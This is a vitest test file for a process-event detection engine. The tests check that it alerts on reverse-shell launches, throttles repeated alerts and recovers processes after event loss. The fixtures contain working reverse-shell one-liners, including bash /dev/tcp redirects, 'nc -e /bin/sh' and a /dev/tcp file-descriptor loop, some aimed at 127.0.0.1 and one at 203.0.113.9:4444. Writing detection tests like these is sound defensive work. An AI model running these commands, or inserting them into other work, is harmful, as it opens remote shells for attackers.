import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AlertThrottle } from '../../src/alerts/index.js';
import { Engine, type EngineEmitter } from '../../src/agent/engine.js';
import { loadRuleSet, RuleSet } from '../../src/rules/index.js';
import type { RawEvent } from '../../src/capture/raw-event.js';
import { ProcessEventStream } from '../../src/ecs/index.js';
import { FixtureProcFs } from '../../src/process/index.js';
import { execEvent, exitEvent, forkEvent, SteppedClock } from '../process/raw-events.js';
import { HOST, reverseShellLaunch, snapshot } from './engine-fixtures.js';
import { makeProcTree, writeProcess, removeProcess, removeTree } from '../process/proc-tree.js';

function collector(): EngineEmitter & { events: Record<string, unknown>[]; alerts: Record<string, unknown>[] } {
  const events: Record<string, unknown>[] = [];
  const alerts: Record<string, unknown>[] = [];
  return { events, alerts, event: (d) => events.push(d as unknown as Record<string, unknown>), alert: (d) => alerts.push(d as unknown as Record<string, unknown>) };
}

describe('Engine', () => {
  let root: string;
  let procfs: FixtureProcFs;

  beforeAll(() => {
    root = makeProcTree();
    writeProcess(root, { pid: 1, ppid: 0, comm: 'systemd', argv: ['/sbin/init'], exe: '/usr/lib/systemd/systemd', startTicks: 1 });
    writeProcess(root, { pid: 100, ppid: 1, comm: 'bash', argv: ['bash'], exe: '/usr/bin/bash', startTicks: 900 });
    procfs = new FixtureProcFs(root);
  });
  afterAll(() => removeTree(root));

  async function engine(clock: SteppedClock, emitEvents = false, perRuleBudget?: number): Promise<Engine> {
    const { ruleSet } = await loadRuleSet();
    if (ruleSet === null) throw new Error('bundled rules failed to load');
    const stream = new ProcessEventStream({ procfs, host: HOST, clock });
    stream.seed();
    return new Engine({ stream, rules: ruleSet, throttle: new AlertThrottle(clock, { windowMs: 60_000, perRuleBudget }), clock, emitEvents });
  }

  it('builds documents only for the actions its rules read, and for every action when it writes events', async () => {
    const quiet = await engine(new SteppedClock());
    quiet.handleBatch(reverseShellLaunch(210, 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'), collector());
    // The bundled rules read execs: fork and end update the table and build nothing.
    expect((quiet as unknown as { stream: ProcessEventStream }).stream.stats().documents).toMatchObject({ exec: 2, fork: 0, end: 0 });
    const loud = await engine(new SteppedClock(), true);
    const out = collector();
    loud.handleBatch(reverseShellLaunch(211, 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'), out);
    expect(out.events.map((e) => (e.event as { action: string }).action)).toEqual(['fork', 'exec', 'exec', 'end']);
  });

  it('builds no document for an exec no rule could take by its names, and alerts as when it builds every one', async () => {
    const events: RawEvent[] = [];
    let pid = 300;
    const run = (argv: string[], exe: string, parent = 100) => {
      const child = pid++;
      events.push(forkEvent(parent, child), execEvent(child, snapshot(argv, exe, parent, child)));
      return child;
    };
    const make = run(['make', '-j2'], '/usr/bin/make');
    for (let i = 0; i < 20; i++) run(['cc', '-c', `f${i}.c`], '/usr/bin/x86_64-linux-gnu-gcc-12', make);
    run(['setsid', 'bash', '-c', 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'], '/usr/bin/setsid');
    run(['nc', '-e', '/bin/sh', '127.0.0.1', '9'], '/usr/bin/nc.traditional');
    const sh = run(['sh', '-c', 'x'], '/usr/bin/dash', make);
    run(['bash', '-c', 'exec 5<>/dev/tcp/127.0.0.1/9; cat <&5 | sh >&5'], '/usr/bin/bash', sh);
    const alertsOf = (out: ReturnType<typeof collector>) => out.alerts.map((a) => `${(a.rule as { id: string }).id}:${(a.process as { pid: number }).pid}`).sort();
    const gated = await engine(new SteppedClock());
    const gatedOut = collector();
    gated.handleBatch(events, gatedOut);
    const full = await engine(new SteppedClock(), true);
    const fullOut = collector();
    full.handleBatch(events, fullOut);
    expect(alertsOf(gatedOut).length).toBeGreaterThanOrEqual(3);
    expect(alertsOf(gatedOut)).toEqual(alertsOf(fullOut));
    const stats = (gated as unknown as { stream: ProcessEventStream }).stream.stats();
    // make's 20 compilers: no rule reads them (make itself is a shell's child, which the rule for
    // commands of a socket-connected shell reads)
    expect(stats.notDocumented).toBe(20);
    expect(stats.documents.exec + stats.notDocumented).toBe(25);
  });

  it('alerts on setsid launched from a shell with a /dev/tcp redirect, attributed to the wrapper', async () => {
    const clock = new SteppedClock();
    const e = await engine(clock);
    const out = collector();
    e.handleBatch(reverseShellLaunch(200, 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'), out);
    const seed = out.alerts.filter((a) => (a.rule as { id: string }).id === '259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39');
    expect(seed).toHaveLength(1);
    const process = seed[0]!.process as Record<string, unknown>;
    expect(process.name).toBe('setsid');
    expect(process.args).toEqual(['setsid', 'bash', '-c', 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1']);
    expect((process.parent as Record<string, unknown>).name).toBe('bash');
    expect((seed[0]!.event as Record<string, unknown>).kind).toBe('alert');
    expect(e.stats().alerts).toBe(out.alerts.length);
  });

  it('does not alert on a benign setsid, and emits events only when asked', async () => {
    const clock = new SteppedClock();
    const quiet = await engine(clock, false);
    const out = collector();
    quiet.handleBatch(reverseShellLaunch(300, 'sleep 1'), out);
    expect(out.alerts).toHaveLength(0);
    expect(out.events).toHaveLength(0);

    const chatty = await engine(clock, true);
    const all = collector();
    chatty.handleBatch(reverseShellLaunch(301, 'sleep 1'), all);
    expect(all.events.map((d) => (d.event as { action: string }).action)).toEqual(['fork', 'exec', 'exec', 'end']);
    const second = all.events[2]!.process as Record<string, unknown>;
    expect(second.name).toBe('bash');
    // As Elastic Defend writes it: the image inherited at fork, then each image exec replaced.
    expect(second.previous).toEqual([
      { args: ['bash'], args_count: 1, executable: '/usr/bin/bash' },
      { args: ['setsid', 'bash', '-c', 'sleep 1'], args_count: 4, executable: '/usr/bin/setsid' },
    ]);
  });

  it('alerts on every launch at the time; a rule past its budget is summarised by its latest occurrence', async () => {
    const clock = new SteppedClock();
    const e = await engine(clock, false, 3);
    const out = collector();
    const payload = 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1';
    const seed = (): Array<Record<string, unknown>> => out.alerts.filter((a) => (a.rule as { id: string }).id === '259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39');
    for (let i = 0; i < 3; i++) {
      e.handleBatch(reverseShellLaunch(400 + i, payload), out);
      expect(seed()).toHaveLength(i + 1); // at the time of the launch
    }
    for (let i = 3; i < 5; i++) e.handleBatch(reverseShellLaunch(400 + i, payload), out);
    expect(seed()).toHaveLength(3);
    clock.advance(61_000);
    e.flushThrottled(out);
    expect(seed()).toHaveLength(4);
    const summary = seed()[3]!;
    expect((summary.execwarden as { throttle: { suppressed: number } }).throttle.suppressed).toBe(2);
    expect((summary.process as { pid: number }).pid).toBe(404);
    expect(String(summary.message)).toContain('2 more times');
  });

  it('counts a raw event it cannot handle and goes on', async () => {
    const clock = new SteppedClock();
    const e = await engine(clock);
    const out = collector();
    const broken = null as unknown as RawEvent;
    e.handleBatch([broken, ...reverseShellLaunch(501, 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1')], out);
    expect(e.stats().failedEvents).toBe(1);
    expect(out.alerts.length).toBeGreaterThan(0);
  });

  it('counts partial sequences pushed out by the open-sequence cap, across rule reloads', async () => {
    const clock = new SteppedClock();
    const { rules } = await loadRuleSet();
    const small = (): RuleSet => new RuleSet(rules.rules, { maxOpenSequences: 3 });
    const stream = new ProcessEventStream({ procfs, host: HOST, clock });
    stream.seed();
    const e = new Engine({ stream, rules: small(), throttle: new AlertThrottle(clock, { windowMs: 60_000 }), clock, emitEvents: false });
    const out = collector();
    // A flood of fifos, each by its own shell: each opens a partial fifo -> netcat sequence.
    const flood = (first: number): RawEvent[] =>
      Array.from({ length: 10 }, (_, i) => [
        forkEvent(100, first + 2 * i),
        execEvent(first + 2 * i, snapshot(['sh', '-c', 'x'], '/usr/bin/dash', 100, first + 2 * i)),
        forkEvent(first + 2 * i, first + 2 * i + 1),
        execEvent(first + 2 * i + 1, snapshot(['mkfifo', `/tmp/f${i}`], '/usr/bin/mkfifo', first + 2 * i, first + 2 * i + 1)),
      ]).flat();
    e.handleBatch(flood(600), out);
    const evicted = e.stats().sequenceEvictions;
    expect(evicted).toBeGreaterThan(0);
    e.setRules(small());
    e.handleBatch(flood(700), out);
    expect(e.stats().sequenceEvictions).toBeGreaterThan(evicted);
  });

  it('judges what a rescan after a loss finds: a reverse shell started under cover of the loss still alerts', async () => {
    const clock = new SteppedClock();
    const e = await engine(clock);
    const out = collector();
    // Launched while events were lost: the table never saw its fork or exec.
    writeProcess(root, { pid: 900, ppid: 100, comm: 'bash', argv: ['bash', '-i'], exe: '/usr/bin/bash', startTicks: 9_000 });
    writeProcess(root, { pid: 901, ppid: 900, comm: 'sh', argv: ['sh', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'], exe: '/usr/bin/dash', startTicks: 9_001 });
    try {
      clock.advance(5_000);
      e.resync();
      // The next event from the kernel carries the recovered processes into the rules.
      e.handleBatch([exitEvent(4242, 0)], out);
      const alert = out.alerts.find((a) => String((a.process as { command_line?: string }).command_line).includes('/dev/tcp/203.0.113.9'));
      expect(alert).toBeDefined();
      expect((alert!.execwarden as { process?: { recovered?: boolean } }).process?.recovered).toBe(true);
      // Judged once: a later event does not replay them.
      const count = out.alerts.length;
      e.handleBatch([exitEvent(4243, 0)], out);
      expect(out.alerts.length).toBe(count);
    } finally {
      removeProcess(root, 900);
      removeProcess(root, 901);
    }
  });
});
